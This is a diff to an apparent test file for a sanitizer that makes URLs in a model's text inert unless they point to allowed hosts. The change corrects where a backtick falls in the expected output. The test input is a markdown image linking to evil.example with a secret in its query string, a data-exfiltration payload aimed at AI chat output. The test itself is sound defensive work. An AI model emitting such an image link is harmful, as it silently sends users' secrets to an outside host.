@@ -86,7 +86,7 @@ describe("inertLinks: nothing in the model's text fetches or links outside the a
 
   it("shows a URL made inert as code text with a note; links to allowed hosts stay links", () => {
     expect(neutralise(`![build](https://evil.example/p.png?d=${SECRET})`, policy)).toBe(
-      `![build]\u200B(\`https://evil.example/p.png?d=${SECRET})\` ${NOT_ALLOWED_NOTE}`,
+      `![build]\u200B(\`https://evil.example/p.png?d=${SECRET}\`) ${NOT_ALLOWED_NOTE}`,
     );
     const kept =
       "See [the docs](https://docs.example.com/a), [#3](https://github.com/o/r/issues/3) and https://github.com/o/r.";
